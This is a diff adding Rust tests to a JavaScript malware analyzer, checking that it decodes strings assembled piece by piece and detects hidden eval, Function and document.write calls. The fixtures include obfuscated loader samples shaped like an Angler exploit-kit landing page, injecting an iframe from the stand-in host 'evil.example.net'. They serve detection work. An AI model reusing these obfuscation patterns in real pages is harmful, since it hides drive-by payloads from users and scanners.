@@ -165,6 +165,75 @@ fn sensitive_reads_reaching_network_sinks_are_flows() {
     );
 }
 
+/// Exploit-kit landing pages build every name and their payload one escaped piece at a time
+/// in variables (`v = "\x63"; v = v + "\x6f"; …`) and reach `Function` through
+/// `[][c][c]` or a variable holding a constructor; the resolver folds the straight-line
+/// values, so the capabilities, and with features the decoded payload, are seen.
+#[test]
+fn strings_built_in_variables_are_resolved() {
+    let caps = |src: &str| -> Vec<&'static str> {
+        analyze(src, &Options::default())
+            .capabilities
+            .iter()
+            .map(|c| c.name())
+            .collect()
+    };
+    // The shape of an Angler landing page (pieces assigned out of order, then joined).
+    let angler = r#"c = "\x63\x6f\x6e"; p1 = "\x64\x6f\x63"; c = c + "\x73\x74\x72";
+        p2 = "ument.wri"; c = c + "uctor"; p1 = p1 + p2; p3 = "te('<ifr' + 'ame src=//evil.example.net/l>')";
+        [][c][c](p1 + p3)();"#;
+    assert_eq!(caps(angler), ["dynamic-code"]);
+    let with_features = Options {
+        features: true,
+        ..Options::default()
+    };
+    let a = analyze(angler, &with_features);
+    assert_eq!(
+        a.payloads,
+        ["document.write('<ifr' + 'ame src=//evil.example.net/l>')"]
+    );
+    // Through variables holding the constructors, `+=`, and a declared `var`.
+    let hidden = r#"var k = "cons"; k += "tructor"; var arr = [][k]; var run = arr[k];
+        var w = "wr" + "ite"; run("x()")(); document[w]("<b>");"#;
+    assert_eq!(caps(hidden), ["dynamic-code", "dom:write"]);
+    // The same with undeclared (implicitly global) variables, as landing pages write them.
+    let sloppy = r#"k = "\x63on"; k += "structor"; arr = [][k]; run = arr[k]; run(p)();"#;
+    assert_eq!(caps(sloppy), ["dynamic-code"]);
+    // `(function(){}).constructor` is `Function` too; a plain `.constructor` call is not.
+    assert_eq!(
+        caps("(function(){}).constructor('x()')();"),
+        ["dynamic-code"]
+    );
+    assert!(caps("var C = obj.constructor; new C(1); obj.constructor(2);").is_empty());
+    // A value assigned in a loop is not known, and a later plain assignment replaces it.
+    assert!(caps(r#"var m = "wri"; for (;;) { m += "te"; } document[m]("x");"#).is_empty());
+    assert!(caps(r#"var m = "write"; m = f(); document[m]("x");"#).is_empty());
+    // A global reached through a folded name.
+    assert_eq!(
+        caps(r#"var e = "ev" + "al"; window[e]("1");"#),
+        ["dynamic-code"]
+    );
+}
+
+/// Folding is bounded: a script that doubles a string sixty times, or appends to one a hundred
+/// thousand times, is analyzed in bounded memory and the fold simply stops knowing the value.
+#[test]
+fn folded_strings_stay_within_a_budget() {
+    let doubling = format!(
+        "var s = \"ab\"; {} document[s]('x');",
+        "s = s + s; ".repeat(60)
+    );
+    let a = analyze(&doubling, &Options::default());
+    assert!(a.parse_errors.is_empty());
+    assert!(a.capabilities.is_empty());
+    let appending = format!(
+        "var s = \"\"; {} window[s]('x');",
+        "s += \"ev\"; ".repeat(100_000)
+    );
+    let a = analyze(&appending, &Options::default());
+    assert!(a.parse_errors.is_empty());
+}
+
 /// The string arrays are learned during the same walk that reads the code, so code that runs
 /// before the array is declared (a hoisted `var`, a function defined above it) or an array
 /// declared twice must still read the final array: the walk is repeated when it matters.
